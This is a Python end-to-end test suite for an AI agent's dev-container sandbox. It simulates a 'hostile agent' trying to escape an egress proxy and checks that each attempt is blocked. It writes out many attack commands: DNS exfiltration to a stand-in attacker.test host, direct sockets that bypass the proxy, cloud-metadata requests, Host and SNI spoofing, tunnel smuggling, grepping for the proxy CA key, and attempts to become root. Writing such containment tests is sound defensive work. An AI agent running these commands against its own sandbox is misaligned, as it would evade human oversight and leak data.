"""The escape suite: a hostile agent inside the app tries every way out it can think of.

Each attempt runs as the container user (root where it says so), in bash, against the
suite's own `.test` upstreams. Each one is paired with its legitimate twin, run first in
the same environment, so a broken network can never pass for a secure one.
"""

from __future__ import annotations

import ipaddress
import re
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.e2e.conftest import Sandbox

pytestmark = pytest.mark.e2e

CURL = "curl -sS --max-time 5 -o /dev/null -w 'status=%{http_code}\\n'"
OK = r"status=200"
DENIED = r"status=403|CONNECT tunnel failed, response 403"
# A refused tunnel: squid answers the CONNECT and then refuses what comes inside (a 403 over
# TLS with the project's CA), or ends a tunnel whose ClientHello it does not allow; a client
# that speaks plain HTTP inside, or expects another certificate, sees the connection end.
TUNNEL_DENIED = DENIED + r"|rc=(35|52|56|60)"
# Which server answered, by the Host it saw (the upstream echoes it), never its "hello".
SERVED_BY = "curl -sS --max-time 5"
SERVED_BY_END = " | sed -n 's/^hello from \\([^ ]*\\) .*/served by \\1/p'"
# What a socket says when the kernel has no route for it: never a timeout or a refusal
# from something that was actually reached.
UNROUTABLE = r"Network is unreachable"


def raw_http(request_line: str, host: str) -> str:
    """One hand-written request to the proxy, bypassing curl's URL parsing."""
    request = f"{request_line}\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"
    return (
        "exec 3<>/dev/tcp/proxy/8080 && "
        f"printf '{request}' >&3 && head -n 1 <&3 | sed 's/^/answer: /'"
    )


def perl_socket(family: int, kind: int, protocol: int) -> str:
    return (
        f"perl -MSocket -e 'socket(my $s, {family}, {kind}, {protocol}) "
        'or die "socket: $!\\n"; print "opened\\n"\''
    )


# The in-container user who owns the workspace files (and so could change them, were it
# not for the read-only mount): root with Docker run by root, vscode with rootless Podman.
OWNER = "workspace-owner"


# A hand-made DNS query for an exfiltration name, straight to the engine's own resolver
# address (Docker's embedded DNS listens on 127.0.0.11 in every user-network container).
DNS_QUERY = (
    "perl -MSocket -e '"
    'socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!\\n"; '
    'my $q = pack("n6", 0x1234, 0x0100, 1, 0, 0, 0) . join("", map { chr(length) . $_ } '
    'split /\\./, "exfil-secret.attacker.test") . "\\0" . pack("n2", 1, 1); '
    'send($s, $q, 0, pack_sockaddr_in(53, inet_aton("127.0.0.11"))) or die "send: $!\\n"; '
    'local $SIG{ALRM} = sub { print "no answer\\n"; exit }; alarm 3; my $r; '
    'defined(recv($s, $r, 512, 0)) or do { print "no answer: $!\\n"; exit }; '
    'my ($id, $flags, $qd, $an) = unpack("n4", $r); '
    'printf "rcode=%d answers=%d\\n", $flags & 15, $an;\''
)


# A hand-made tunnel through the proxy, in the app's Node.js: CONNECT TARGET, then either raw
# bytes ("raw") or TLS with the given SNI ("tls"; "split" sends the ClientHello's first byte
# alone), then PAYLOAD (\r\n written as such). Prints what comes back; trusts the proxy's CA
# but checks no name, so that an answer from the wrong server would show.
TUNNEL_JS = r"""
const net = require('net'), tls = require('tls'), fs = require('fs');
const { Duplex } = require('stream');
const [target, how, sni, payload] = process.argv.slice(2);
const body = Buffer.from(payload.replace(/\\r\\n/g, '\r\n'), 'latin1');
const out = (label, data) => process.stdout.write(`${label}: ${data.toString('latin1')}\n`);
const sock = net.connect(8080, 'proxy', () =>
  sock.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
let head = Buffer.alloc(0);
function tunnel() {
  if (how === 'raw') { sock.on('data', d => out('answer', d)); sock.write(body); return; }
  let first = how === 'split';
  const wire = new Duplex({
    write(chunk, encoding, done) {
      if (first && chunk.length > 1) {
        first = false; sock.write(chunk.subarray(0, 1));
        setTimeout(() => sock.write(chunk.subarray(1), done), 300);
      } else sock.write(chunk, done);
    },
    read() {},
  });
  sock.on('data', d => wire.push(d)); sock.on('end', () => wire.push(null));
  const t = tls.connect({ socket: wire, servername: sni, rejectUnauthorized: false,
                          ca: fs.readFileSync('/etc/devagent/proxy-ca.crt') }, () => t.write(body));
  t.on('data', d => out('answer', d)); t.on('error', e => out('tls error', e.message));
}
function onConnect(d) {
  head = Buffer.concat([head, d]);
  if (!head.includes('\r\n\r\n')) return;
  sock.removeListener('data', onConnect); out('connect', head.toString('latin1').split('\r\n')[0]);
  tunnel();
}
sock.on('data', onConnect);
sock.on('error', e => out('error', e.message)); sock.on('close', () => out('closed', ''));
setTimeout(() => process.exit(0), 5000);
"""


def node_tunnel(target: str, how: str, sni: str, payload: str) -> str:
    return f"node - '{target}' {how} '{sni}' '{payload}' <<'JS'\n{TUNNEL_JS}\nJS"


# A websocket upgrade through the proxy, by hand: prints the status line that comes back.
def websocket(host: str) -> str:
    request = (
        f"GET http://{host}/ws HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\n"
        "Connection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
        "Sec-WebSocket-Version: 13\\r\\n\\r\\n"
    )
    return (
        f"exec 3<>/dev/tcp/proxy/8080 && printf '{request}' >&3 && "
        "timeout 3 cat <&3 | tr -cd '[:print:]\\n' | sed 's/^/answer: /'"
    )


@dataclass(frozen=True)
class Attempt:
    name: str
    attack: str
    blocked: str  # regex the attack's output must match
    twin: str
    works: str  # regex the twin's output must match
    user: str = "vscode"


# A passthrough tunnel: the app gets the upstream's own certificate, not the proxy's.
PINNED = f"{CURL} --cacert /workspaces/sample-project/upstream-ca.pem https://pinned.test/"
TWIN_HTTP = Attempt("", "", "", f"{CURL} http://allowed.test/", OK)
TWIN_HTTPS = Attempt("", "", "", f"{CURL} https://allowed.test/", OK)


def _like(twin: Attempt, name: str, attack: str, blocked: str, **kw: str) -> Attempt:
    return Attempt(name, attack, blocked, twin.twin, twin.works, **kw)


ATTEMPTS = [
    # --- around the proxy: no route, no resolver, no raw packets --------------------
    _like(TWIN_HTTP, "direct-by-ip-ignoring-proxy-variables",
          f"{CURL} --noproxy '*' http://{{upstream_ip}}/; echo rc=$?", r"rc=7"),
    _like(TWIN_HTTP, "direct-by-name-ignoring-proxy-variables",
          f"{CURL} --noproxy '*' http://allowed.test/; echo rc=$?",
          r"rc=(6|28)\n.*(Could not resolve|Resolving timed out)"),
    Attempt("raw-tcp-to-upstream", "exec 3<>/dev/tcp/{upstream_ip}/443", UNROUTABLE,
            "exec 3<>/dev/tcp/{proxy_ip}/8080 && echo connected", r"connected"),
    Attempt("udp-to-upstream", "echo exfil > /dev/udp/{upstream_ip}/53", UNROUTABLE,
            "echo ok > /dev/udp/{proxy_ip}/9 && echo sent", r"sent"),
    Attempt("dns-query-to-the-network-gateway", "echo q > /dev/udp/{gateway}/53", UNROUTABLE,
            "getent hosts proxy", r"{proxy_ip}\s+proxy"),
    Attempt("tcp-to-the-host-on-the-bridge", "exec 3<>/dev/tcp/{gateway}/22", UNROUTABLE,
            "exec 3<>/dev/tcp/{proxy_ip}/8080 && echo connected", r"connected"),
    Attempt("external-name-lookup", "getent hosts allowed.test; echo rc=$?", r"^rc=2",
            "getent hosts proxy", r"{proxy_ip}\s+proxy"),
    Attempt("dns-query-to-the-engines-resolver", DNS_QUERY, r"^(no answer|rcode=\d+ answers=0)",
            "getent hosts proxy", r"{proxy_ip}\s+proxy"),
    Attempt("exfiltration-by-dns-name", "getent hosts secret-data.attacker.test; echo rc=$?",
            r"^rc=2", "getent hosts proxy", r"{proxy_ip}\s+proxy"),
    _like(TWIN_HTTP, "ipv6-global-address",
          f"{CURL} --noproxy '*' -6 'http://[fd00::1]/'; echo rc=$?", r"rc=7"),
    _like(TWIN_HTTP, "ipv6-link-local-neighbours",
          "cat /proc/sys/net/ipv6/conf/all/disable_ipv6; "
          f"{CURL} --noproxy '*' -6 'http://[fe80::1%25eth0]/'; echo rc=$?", r"^1\n(.|\n)*rc=7"),
    Attempt("raw-icmp-socket", perl_socket(2, 3, 1), r"socket: Operation not permitted",
            perl_socket(2, 1, 0), r"opened"),
    Attempt("packet-socket-as-root", perl_socket(17, 3, 0), r"socket: Operation not permitted",
            perl_socket(2, 2, 0), r"opened", user="root"),
    _like(TWIN_HTTP, "cloud-metadata-ipv4-direct",
          f"{CURL} --noproxy '*' http://169.254.169.254/; echo rc=$?", r"rc=7"),
    _like(TWIN_HTTP, "cloud-metadata-ipv4-through-the-proxy",
          f"{CURL} http://169.254.169.254/latest/meta-data/", DENIED),
    _like(TWIN_HTTP, "cloud-metadata-ipv6",
          f"{CURL} --noproxy '*' -6 'http://[fd00:ec2::254]/'; echo rc=$?", r"rc=7"),
    # --- through the proxy: every name for the destination must agree and be listed ------
    # A proxy must replace the Host header of an absolute-form request with the URL's host
    # (RFC 9112, 3.2.2), and squid does: the request goes to allowed.test, as allowed.test.
    _like(TWIN_HTTP, "host-header-spoofed-to-a-blocked-host",
          f"{SERVED_BY} -H 'Host: blocked.test' http://allowed.test/{SERVED_BY_END}",
          r"\Aserved by allowed\.test\n\Z"),
    _like(TWIN_HTTP, "blocked-url-with-an-allowed-host-header",
          f"{CURL} -H 'Host: allowed.test' http://blocked.test/", DENIED),
    _like(TWIN_HTTP, "host-header-with-a-port-naming-another-host",
          f"{SERVED_BY} -H 'Host: blocked.test:80' http://allowed.test/{SERVED_BY_END}",
          r"\Aserved by allowed\.test\n\Z"),
    _like(TWIN_HTTPS, "connect-to-a-blocked-host", f"{CURL} https://blocked.test/", DENIED),
    _like(TWIN_HTTPS, "connect-to-an-allowed-host-on-another-port",
          f"{CURL} -p http://allowed.test:8443/; echo rc=$?", TUNNEL_DENIED),
    _like(TWIN_HTTP, "plain-http-to-an-allowed-host-on-another-port",
          f"{CURL} http://allowed.test:2222/", DENIED),
    Attempt("sni-differs-from-the-connect-target",
            f"{CURL} https://blocked.test/ --connect-to blocked.test:443:allowed.test:443;"
            " echo rc=$?", r"status=403|rc=(35|56|60)", f"{CURL} https://allowed.test/", OK),
    _like(TWIN_HTTP, "ip-literal-through-the-proxy", f"{CURL} http://{{upstream_ip}}/", DENIED),
    _like(TWIN_HTTPS, "ip-literal-connect", f"{CURL} -k https://{{upstream_ip}}/", DENIED),
    _like(TWIN_HTTP, "integer-encoded-ip",
          raw_http("GET http://{upstream_int}/ HTTP/1.1", "{upstream_int}"), r"answer: \S+ 40[03]"),
    _like(TWIN_HTTP, "lookalike-name", f"{CURL} http://evilallowed.test/", DENIED),
    _like(TWIN_HTTP, "allowed-name-as-a-prefix", f"{CURL} http://allowed.test.blocked.test/",
          DENIED),
    _like(TWIN_HTTP, "userinfo-trick", f"{CURL} 'http://allowed.test@blocked.test/'", DENIED),
    _like(TWIN_HTTP, "percent-encoded-host",
          raw_http("GET http://allowed%%2etest/ HTTP/1.1", "allowed%%2etest"),
          r"answer: \S+ 40[03]"),
    _like(TWIN_HTTP, "origin-form-request-to-the-proxy",
          raw_http("GET / HTTP/1.1", "blocked.test"), r"answer: \S+ 40[03]"),
    # --- passthrough entries: uninspected, yet the CONNECT host, port and SNI hold ---
    Attempt("sni-differs-on-a-passthrough-tunnel",
            f"{CURL} https://blocked.test/ --connect-to blocked.test:443:pinned.test:443;"
            " echo rc=$?", TUNNEL_DENIED, PINNED, OK),
    Attempt("passthrough-host-on-another-port", f"{CURL} -p http://pinned.test:8443/; echo rc=$?",
            TUNNEL_DENIED, PINNED, OK),
    # --- pull-request merges, refused on the (stand-in) GitHub host -----------------
    Attempt("merge-a-pull-request-over-rest",
            f"{CURL} -X PUT https://api.allowed.test/repos/o/r/pulls/1/merge", DENIED,
            f"{CURL} -d '{{\"body\": \"ready\"}}'"
            " https://api.allowed.test/repos/o/r/issues/1/comments", OK),
    Attempt("merge-a-pull-request-over-graphql",
            f"{CURL} -d '{{\"query\": \"mutation {{ mergePullRequest(input: {{}}) {{ x }} }}\"}}'"
            " https://api.allowed.test/graphql", DENIED,
            f"{CURL} -d '{{\"query\": \"query {{ viewer {{ login }} }}\"}}'"
            " https://api.allowed.test/graphql", OK),
    # --- tunnels: nothing but what was decided gets through them (both modes) ----------
    Attempt("raw-http-in-an-inspected-tunnel",
            node_tunnel("allowed.test:443", "raw", "", "GET / HTTP/1.1\\r\\nHost: other.test"
                        "\\r\\n\\r\\n"),
            r"connect: HTTP/1.1 200", f"{CURL} https://allowed.test/", OK),
    Attempt("raw-http-in-a-tunnel-entry",
            node_tunnel("pinned.test:443", "raw", "", "\\r\\nGET / HTTP/1.1\\r\\nHost: other.test"
                        "\\r\\n\\r\\n"),
            r"connect: HTTP/1.1 200", PINNED, OK),
    Attempt("clienthello-for-another-host-split-in-a-tunnel-entry",
            node_tunnel("pinned.test:443", "split", "other.test", "GET / HTTP/1.1\\r\\n"
                        "Host: other.test\\r\\n\\r\\n"),
            r"connect: HTTP/1.1 200", PINNED, OK),
    Attempt("clienthello-for-another-host-split-in-an-inspected-tunnel",
            node_tunnel("allowed.test:443", "split", "other.test", "GET / HTTP/1.1\\r\\n"
                        "Host: other.test\\r\\n\\r\\n"),
            r"answer: HTTP/1.1 403", f"{CURL} https://allowed.test/", OK),
    Attempt("crlf-then-http-for-another-host-inside-intercepted-tls",
            node_tunnel("allowed.test:443", "tls", "allowed.test", "\\r\\nGET / HTTP/1.1\\r\\n"
                        "Host: other.test\\r\\n\\r\\n"),
            r"answer: HTTP/1.1 403",
            node_tunnel("allowed.test:443", "tls", "allowed.test", "GET / HTTP/1.1\\r\\n"
                        "Host: allowed.test\\r\\n\\r\\n"), r"answer: HTTP/1.1 200"),
    Attempt("absolute-form-url-inside-intercepted-tls",
            node_tunnel("allowed.test:443", "tls", "allowed.test", "GET https://other.test/ "
                        "HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"),
            r"answer: HTTP/1.1 403",
            node_tunnel("allowed.test:443", "tls", "allowed.test", "GET https://allowed.test/ "
                        "HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"), r"answer: HTTP/1.1 200"),
    Attempt("http2-preface-inside-intercepted-tls",
            node_tunnel("allowed.test:443", "tls", "allowed.test",
                        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n") + "; echo end",
            r"end", f"{CURL} --http2 https://allowed.test/", OK),
    _like(TWIN_HTTPS, "inner-host-header-for-another-host-over-https",
          f"{CURL} -H 'Host: other.test' https://allowed.test/", DENIED),
    Attempt("websocket-to-a-refused-host", websocket("blocked.test"), r"answer: HTTP/1.1 403",
            websocket("allowed.test"), r"answer: HTTP/1.1 101"),
    _like(TWIN_HTTP, "oversized-request-header",
          f"{CURL} -H \"X-Big: $(head -c 70000 /dev/zero | tr -c a a)\" http://allowed.test/",
          r"status=(400|413|431)"),
    # --- the enforcement itself -----------------------------------------------------
    Attempt("proxy-admin-and-other-ports",
            f"for p in 8081 9090 22; do {CURL} --noproxy '*' http://proxy:$p/; done; echo end",
            r"\A(status=000\n){3}end\n(curl: \(7\) Failed to connect to proxy port \d+.*\n){3}\Z",
            # The proxy's one port answers (squid: 400 for a request without a URL).
            f"{CURL} --noproxy '*' http://proxy:8080/", r"status=[1-5]\d\d"),
    Attempt("rewrite-the-generated-filter",
            "echo 'POLICY = {}' >> /workspaces/sample-project/.devcontainer/filter.py",
            r"Read-only file system",
            "echo x > /workspaces/sample-project/scratch && rm /workspaces/sample-project/scratch"
            " && echo wrote", r"wrote", user=OWNER),
    Attempt("move-the-generated-directory-aside",
            "cd /workspaces/sample-project && mv .devcontainer x; ls .devcontainer/filter.py",
            r"\A\.devcontainer/filter\.py\n.*Device or resource busy",
            "grep -c '^POLICY = ' /workspaces/sample-project/.devcontainer/filter.py", r"^1$",
            user=OWNER),
    # A line of the proxy CA's real private key, looked for in every file the app can read.
    Attempt("read-the-proxy-ca-key", "grep -rlIF -D skip -- '{key_line}' / --exclude-dir=proc "
            "--exclude-dir=sys --exclude-dir=dev 2>/dev/null; echo end", r"\Aend",
            "cat /etc/devagent/proxy-ca.crt", r"BEGIN CERTIFICATE", user="root"),
    Attempt("engine-socket",
            "ls /var/run/docker.sock /run/podman/podman.sock /run/user/*/podman/podman.sock "
            "2>&1; echo end", r"^(.*No such file.*\n){3}end",
            "ls /workspaces/sample-project/README.md", r"README"),
    Attempt("switch-ip-forwarding-on-as-root",
            "echo 1 > /proc/sys/net/ipv4/ip_forward", r"Read-only file system",
            "cat /proc/sys/net/ipv4/ip_forward", r"^[01]$", user="root"),
    Attempt("become-root", "su -c id root </dev/null; setpriv --reuid=0 id; echo end",
            r"\A(?:(?!uid=0)[\s\S])*end", "id -un", r"^vscode$"),
]  # fmt: skip


@dataclass(frozen=True)
class Targets:
    upstream_ip: str
    proxy_ip: str
    gateway: str
    key_line: str

    def fill(self, text: str) -> str:
        upstream_int = str(int(ipaddress.IPv4Address(self.upstream_ip)))
        return (
            text.replace("{upstream_ip}", self.upstream_ip)
            .replace("{upstream_int}", upstream_int)
            .replace("{proxy_ip}", self.proxy_ip)
            .replace("{gateway}", self.gateway)
            .replace("{key_line}", self.key_line)
        )


@pytest.fixture(scope="module")
def targets(sandbox: Sandbox, upstream: str) -> Targets:
    networks = sandbox.inspect(upstream)["NetworkSettings"]["Networks"]  # type: ignore[index]
    upstream_ip = networks[f"devagent-{sandbox.hash}-egress"]["IPAddress"]
    proxy_ip = sandbox.app_sh("getent hosts proxy").stdout.split()[0]
    subnet = ipaddress.ip_network(f"{proxy_ip}/28", strict=False)
    key_file = Path(sandbox.env["DEVAGENT_DATA_DIR"]) / "proxy-certs" / sandbox.hash
    pem = (key_file / "mitmproxy-ca.pem").read_text().splitlines()
    key_line = pem[pem.index(next(line for line in pem if "PRIVATE KEY" in line)) + 1]
    return Targets(upstream_ip, proxy_ip, str(subnet.network_address + 1), key_line)


def bash(sandbox: Sandbox, script: str, user: str) -> str:
    if user == OWNER:
        user = "vscode" if sandbox.host.user is not None else "root"
    result = sandbox.engine_run("exec", "-u", user, sandbox.app, "bash", "-c", script, check=False)
    return result.stdout + result.stderr


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=[a.name for a in ATTEMPTS])
def test_escape_attempt_fails_and_its_legitimate_twin_works(
    sandbox: Sandbox, targets: Targets, attempt: Attempt
) -> None:
    twin = bash(sandbox, targets.fill(attempt.twin), attempt.user)
    assert re.search(targets.fill(attempt.works), twin, re.MULTILINE), f"twin failed: {twin}"
    output = bash(sandbox, targets.fill(attempt.attack), attempt.user)
    assert re.search(attempt.blocked, output, re.MULTILINE), f"not blocked: {output}"
    assert "hello from" not in output  # the upstream never answered


def _iptables(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["iptables", *args], capture_output=True, text=True, check=False)


@pytest.fixture
def permissive_host_firewall() -> Iterator[None]:
    """Hand-made ACCEPT rules of the kind developer machines carry, removed afterwards."""
    rules = [("FORWARD",)]
    if _iptables("-S", "DOCKER-USER").returncode == 0:
        rules.append(("DOCKER-USER",))
    for (chain,) in rules:
        assert _iptables("-I", chain, "1", "-j", "ACCEPT").returncode == 0
    try:
        yield
    finally:
        for (chain,) in rules:
            _iptables("-D", chain, "-j", "ACCEPT")


def test_no_way_out_even_with_a_permissive_host_firewall(
    sandbox: Sandbox, targets: Targets, permissive_host_firewall: None
) -> None:
    assert re.search(OK, bash(sandbox, f"{CURL} http://allowed.test/", "vscode"))
    for script in ("exec 3<>/dev/tcp/{upstream_ip}/80", "exec 3<>/dev/tcp/{gateway}/80"):
        output = bash(sandbox, targets.fill(script), "vscode")
        assert UNROUTABLE in output, output


SQUID_PID = (
    'for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = squid ] && echo ${p#/proc/}; '
    "done; true"
)


def _squid(sandbox: Sandbox) -> str:
    return sandbox.engine_run("exec", sandbox.proxy, "sh", "-c", SQUID_PID).stdout.strip()


def test_when_the_proxy_dies_nothing_gets_out_and_it_comes_back(
    sandbox: Sandbox, targets: Targets
) -> None:
    assert re.search(OK, bash(sandbox, f"{CURL} http://allowed.test/", "vscode"))
    before = _squid(sandbox)
    assert before
    sandbox.engine_run("exec", sandbox.proxy, "sh", "-c", f"kill -9 {before}")
    # While it is down or restarting: no direct way, and no answer through it.
    direct = bash(sandbox, targets.fill("exec 3<>/dev/tcp/{upstream_ip}/80"), "vscode")
    assert UNROUTABLE in direct
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if re.search(OK, bash(sandbox, f"{CURL} http://allowed.test/", "vscode")):
            break
        time.sleep(1)
    else:
        pytest.fail("the proxy did not come back by itself")
    assert _squid(sandbox) not in ("", before)  # a new squid, started by the proxy itself
    assert re.search(DENIED, bash(sandbox, f"{CURL} http://blocked.test/", "vscode"))
